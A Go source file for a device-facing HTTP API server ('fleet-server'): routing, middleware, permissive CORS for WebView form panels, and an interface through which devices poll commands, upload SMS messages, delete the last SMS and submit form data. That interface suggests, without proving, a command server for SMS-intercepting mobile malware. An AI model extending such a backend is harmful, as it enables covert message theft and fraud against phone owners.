package api

import (
	"context"
	"net/http"
	"time"

	"github.com/go-chi/chi/v5"
	"github.com/go-chi/chi/v5/middleware"
	"github.com/go-chi/cors"
	"github.com/rs/zerolog/log"

	"github.com/fleetpanel/fleet-server/internal/config"
	"github.com/fleetpanel/fleet-server/internal/models"
	"github.com/fleetpanel/fleet-server/internal/validation"
)

// maxBodyBytes bounds device request bodies.
const maxBodyBytes = 1 << 20

// DeviceEvents is what the device endpoints drive.
type DeviceEvents interface {
	Connect(ctx context.Context, id string, meta models.DeviceMetadata) error
	PollCommands(ctx context.Context, id string) ([]*models.Command, error)
	ReceiveSMS(ctx context.Context, id string, entry *models.SMSEntry) error
	DeleteLastSMS(ctx context.Context, id string) (*models.SMSEntry, error)
	SubmitForm(ctx context.Context, id string, fields models.Variables) error
}

// RESTServer represents the device-facing HTTP server
type RESTServer struct {
	config    config.APIConfig
	devices   DeviceEvents
	validator *validation.Validator
	router    chi.Router
	server    *http.Server
}

// NewRESTServer creates a new HTTP server
func NewRESTServer(cfg config.APIConfig, devices DeviceEvents) *RESTServer {
	s := &RESTServer{
		config:    cfg,
		devices:   devices,
		validator: validation.NewValidator(),
		router:    chi.NewRouter(),
	}

	s.setupRoutes()

	s.server = &http.Server{
		Handler:      s.router,
		ReadTimeout:  cfg.ReadTimeout,
		WriteTimeout: cfg.WriteTimeout,
		IdleTimeout:  60 * time.Second,
	}

	return s
}

// setupRoutes configures middleware and routes
func (s *RESTServer) setupRoutes() {
	// Middleware
	s.router.Use(middleware.RequestID)
	s.router.Use(middleware.RealIP)
	s.router.Use(accessLog)
	s.router.Use(middleware.Recoverer)
	if s.config.RequestTimeout > 0 {
		s.router.Use(middleware.Timeout(s.config.RequestTimeout))
	}

	// CORS, for panels that post forms from a WebView
	origins := s.config.CORSOrigins
	if len(origins) == 0 {
		origins = []string{"*"}
	}
	s.router.Use(cors.Handler(cors.Options{
		AllowedOrigins: origins,
		AllowedMethods: []string{"GET", "POST", "OPTIONS"},
		AllowedHeaders: []string{"Accept", "Content-Type", "X-Requested-With"},
		MaxAge:         300,
	}))

	s.setupDeviceRoutes(s.router)
}

// Handler returns the root handler.
func (s *RESTServer) Handler() http.Handler {
	return s.router
}

// ListenAndServe starts the server
func (s *RESTServer) ListenAndServe(addr string) error {
	s.server.Addr = addr

	log.Info().
		Str("addr", addr).
		Str("public_dir", s.config.PublicDir).
		Msg("Starting HTTP server")
	return s.server.ListenAndServe()
}

// Shutdown gracefully shuts down the server
func (s *RESTServer) Shutdown(ctx context.Context) error {
	return s.server.Shutdown(ctx)
}
